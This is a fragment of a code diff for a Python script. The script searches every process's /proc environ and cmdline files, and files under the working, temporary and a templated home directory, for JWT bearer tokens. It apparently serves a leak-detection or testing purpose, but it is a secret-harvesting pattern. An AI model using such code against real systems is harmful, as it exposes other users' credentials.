@@ -253,8 +253,9 @@ import glob, os, re
 def main():
     token = re.compile(rb"(?<!jwt_)(?<![\\w.-])eyJ[\\w-]{20,}\\.eyJ[\\w-]{20,}\\.[\\w-]{20,}")
     files = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
-    for folder, _, names in os.walk("/tmp"):
-        files += [os.path.join(folder, name) for name in names if name != "main.py"]
+    for root in ("${millrace.home}", os.getcwd(), os.environ.get("TMPDIR", os.getcwd())):
+        for folder, _, names in os.walk(root):
+            files += [os.path.join(folder, name) for name in names if name != "main.py"]
     found = [name for name in os.environ if "FRAMES" in name or "ATTEMPT" in name]
     looked = 0
     for file in files:
